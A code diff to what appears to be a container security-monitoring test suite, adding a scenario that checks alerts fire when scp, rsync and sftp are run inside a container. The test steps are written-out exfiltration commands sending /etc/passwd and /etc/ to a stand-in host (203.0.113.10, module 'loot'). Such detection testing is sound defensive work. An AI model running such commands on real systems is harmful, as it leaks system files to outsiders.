@@ -58,6 +58,22 @@ var Scenarios = []Scenario{
 		Forbid: []Match{Named(shellAlert), Named(minerAlert)},
 	},
 	{
+		Name:        "remote-copy-tool",
+		Description: "Remote copy tools run in a container (scp, rsync and sftp: busybox links, the exec is what counts).",
+		Setup: func(e *Env) {
+			for _, tool := range []string{"scp", "rsync", "sftp"} {
+				e.link("/usr/bin/" + tool)
+			}
+		},
+		Steps: []Step{
+			TryCmd("/usr/bin/scp", "/etc/passwd", "backup@203.0.113.10:/tmp/"),
+			TryCmd("/usr/bin/rsync", "-a", "/etc/", "203.0.113.10::loot"),
+			TryCmd("/usr/bin/sftp", "backup@203.0.113.10"),
+		},
+		Expect: []Match{Named(networkAlert, "binary", "scp"), Named(networkAlert, "binary", "rsync"), Named(networkAlert, "binary", "sftp")},
+		Forbid: []Match{Named(minerAlert)},
+	},
+	{
 		Name:        "miner-in-container",
 		Description: "A binary named xmrig (a busybox link) is executed in a container.",
 		Setup:       func(e *Env) { e.link("/tmp/xmrig") },
@@ -167,7 +183,11 @@ func Names() []string {
 // it counts under the link's name (busybox then finds no such applet).
 func (e *Env) link(path string) {
 	e.T.Helper()
-	if err := os.Symlink("/bin/busybox", filepath.Join(e.Main().Rootfs(), path)); err != nil {
+	dst := filepath.Join(e.Main().Rootfs(), path)
+	if err := os.MkdirAll(filepath.Dir(dst), 0o755); err != nil {
+		e.T.Fatalf("link %s: %v", path, err)
+	}
+	if err := os.Symlink("/bin/busybox", dst); err != nil {
 		e.T.Fatalf("link %s: %v", path, err)
 	}
 }
